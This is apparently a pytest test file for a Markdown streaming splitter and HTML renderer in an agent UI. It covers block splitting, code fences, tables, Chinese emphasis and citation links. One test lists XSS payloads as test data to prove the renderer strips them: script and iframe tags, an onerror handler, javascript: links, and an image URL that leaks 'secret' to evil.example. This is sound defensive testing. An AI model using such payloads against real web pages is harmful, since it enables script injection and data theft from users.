"""Markdown blocks: cut as early as they are sure, rendered the same live and whole, and harmless."""

from html.parser import HTMLParser
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agents.protocols.agui import blocks

MARKS = "# h\n|\n|\n\n|text |- a\n|  - b\n|1. x\n|2. y\n|```\n|```py\nx = 1\n|~~~\n|> q\n|***\n|    code\n|===\n".split(
    "|"
)
MARKS += ["| a | b |\n", "|---|--:|\n", "**“术语”**用法", "😀", "\r\n", "[a](http://x)", "<b>"]
PIECES = st.sampled_from(MARKS)
TEXT = st.lists(PIECES | st.text(max_size=4), max_size=20).map("".join)


def tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    found: list[tuple[str, list[tuple[str, str | None]]]] = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: found.append((tag, attrs))  # type: ignore[method-assign]  # all we need
    parser.feed(html)
    return found


def fed(text: str, size: int) -> list[str]:
    splitter = blocks.BlockSplitter()
    found = [block for i in range(0, len(text), size) for block in splitter.feed(text[i : i + size])]
    return found + splitter.finish()


@settings(max_examples=200, deadline=None)
@given(text=TEXT, size=st.integers(1, 7))
def test_blocks_are_the_same_however_the_text_arrives(text: str, size: int) -> None:
    assert fed(text, size) == list(blocks.split(text))


@settings(max_examples=200, deadline=None)
@given(text=TEXT)
def test_blocks_lose_nothing_but_blank_lines(text: str) -> None:
    assert "".join(blocks.split(text)).split() == text.split()


@settings(max_examples=100, deadline=None)
@given(text=TEXT)
def test_end_is_where_javascript_finds_the_rest(text: str) -> None:
    splitter = blocks.BlockSplitter()
    done = splitter.feed(text)
    units = text.encode("utf-16-le")
    rest = units[2 * splitter.end :].decode("utf-16-le")
    splitter.finish()
    assert "".join(done).split() == text[: len(text) - len(rest)].split()
    assert splitter.end == len(units) // 2


def test_a_paragraph_is_finished_by_a_blank_line_and_a_heading_by_its_own() -> None:
    splitter = blocks.BlockSplitter()
    assert splitter.feed("# Title\nSome te") == ["# Title\n"]
    assert splitter.feed("xt\n") == []
    assert splitter.feed("\nmore") == ["Some text\n\n"]
    assert splitter.finish() == ["more"]


def test_a_fence_keeps_blank_lines_and_what_looks_like_markdown() -> None:
    text = "```python\n# no heading\n\n- no list\n```\nafter\n"
    assert list(blocks.split(text)) == ["```python\n# no heading\n\n- no list\n```\n", "after\n"]


def test_a_fence_closes_only_with_its_own_kind_and_length() -> None:
    text = "````\n```\n~~~~\n````\nafter"
    assert list(blocks.split(text)) == ["````\n```\n~~~~\n````\n", "after"]


def test_a_list_goes_on_over_blank_lines_and_its_numbers_stay() -> None:
    text = "1. one\n\n   more of one\n2. two\n\ntext\n"
    assert list(blocks.split(text)) == ["1. one\n\n   more of one\n2. two\n\n", "text\n"]
    assert '<ol start="3">' in blocks.render("3. three\n")


def test_an_unfinished_table_is_not_given_out() -> None:
    splitter = blocks.BlockSplitter()
    assert splitter.feed("| a |\n|---|\n| 1 |\n") == []
    assert len(splitter.feed("\n")) == 1


def test_headings_are_shifted_and_tables_scroll() -> None:
    assert blocks.render("# A\n") == "<h3>A</h3>\n"
    assert blocks.render("###### A\n") == "<h6>A</h6>\n"
    table = blocks.render("| a | b |\n|---|--:|\n| 1 | 2 |\n")
    assert table.startswith('<div class="table-scroll" role="region" tabindex="0"><table class="table">')
    assert '<td class="num-cell">2</td>' in table
    assert "style" not in table


def test_code_has_the_classes_of_the_pages() -> None:
    code = blocks.render('```python\n# c\ndef f(): return "s", 1\n```\n')
    for name in ("tok-c", "tok-k", "tok-s", "tok-n", "code-head"):
        assert f'class="{name}"' in code
    assert blocks.render("```nonsense-language\n<b>\n```\n").count("&lt;b&gt;") == 1


def test_emphasis_works_beside_chinese_punctuation() -> None:
    assert "<strong>“术语”</strong>" in blocks.render("这是**“术语”**的用法。")
    assert "<strong>注意：</strong>" in blocks.render("**注意：**请看")
    assert blocks.render("a ** b ** c") == "<p>a ** b ** c</p>\n"


def test_what_a_model_writes_cannot_act() -> None:
    evil = [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "[x](javascript:alert(1))",
        "[x](data:text/html;base64,AAAA)",
        "![x](http://evil.example/?q=secret)",
        '[x](http://a "onmouseover=1")',
        "<style>*{}</style>",
        "```<script>\n</code></pre><script>alert(1)</script>\n```",
        '| <iframe src="//x"> |\n|---|\n',
    ]
    for text in evil:
        for tag, attributes in tags(blocks.render(text)):
            assert tag not in ("script", "img", "iframe", "style"), text
            for name, value in attributes:
                assert name in ("href", "class", "target", "rel", "tabindex", "role", "scope", "title"), text
                assert name != "href" or (value or "").startswith(("http://", "https://", "mailto:")), text
    link = blocks.render("[x](http://a.example)")
    assert 'rel="noopener noreferrer nofollow"' in link
    assert 'target="_blank"' in link


def test_an_image_becomes_a_link_that_nobody_follows_by_itself() -> None:
    assert blocks.render("![plan](http://a.example/p.png)") == (
        '<p><a href="http://a.example/p.png" target="_blank" rel="noopener noreferrer nofollow">plan</a></p>\n'
    )


@pytest.mark.parametrize("piece", ["[", "*", "> ", "`", "- ", "|", "!["])
def test_a_long_hostile_text_takes_time_in_proportion(piece: str) -> None:
    """Four times as much takes about four times as long, and not sixteen times: the best of three."""

    def seconds(count: int) -> float:
        took = []
        for _ in range(3):
            began = process_time()
            assert blocks.render(piece * count)
            took.append(process_time() - began)
        return min(took)

    assert seconds(4000) < max(0.05, 8 * seconds(1000))


def test_a_paragraph_beyond_all_measure_is_plain_text() -> None:
    long = "![" * blocks.INLINE_CHARS
    assert blocks.render(f"**before**\n\n{long}\n\n**after**") == (
        f"<p><strong>before</strong></p>\n<p>{long}</p>\n<p><strong>after</strong></p>\n"
    )
    assert blocks.render("<b>" * blocks.INLINE_CHARS).count("&lt;b&gt;") == blocks.INLINE_CHARS


def test_citation_becomes_a_chip_that_keeps_to_the_word_before() -> None:
    html = blocks.render("It lost 43 kg. [1](#c-k3f2ab)[2](#c-m2x7qp) And 冷库。[1](#c-k3f2ab)\n")
    assert 'It lost 43 kg.\u2060<a href="#c-k3f2ab" class="cite-chip"' in html
    assert '冷库。\u2060<a href="#c-k3f2ab"' in html
    assert html.count('class="cite-chip"') == 3
    assert "target=" not in html


def test_other_links_are_no_citations() -> None:
    html = blocks.render("[1](#c-k3f2abc) [1](#top) [1](https://a.example/#c-k3f2ab)\n")
    assert "cite-chip" not in html


@pytest.mark.parametrize(
    "text",
    [
        "[1](&#35;c-k3f2ab)",
        "[1](\\#c-k3f2ab)",
        "[1](<#c-k3f2ab>)",
        '[1](#c-k3f2ab "x")',
        "[1][r]\n[r]: #c-k3f2ab",
        "[r]: #c-k3f2ab\n[1][r]",
    ],
)
def test_a_link_written_in_another_way_than_the_servers_is_no_citation(text: str) -> None:
    assert "cite-chip" not in blocks.render(text)
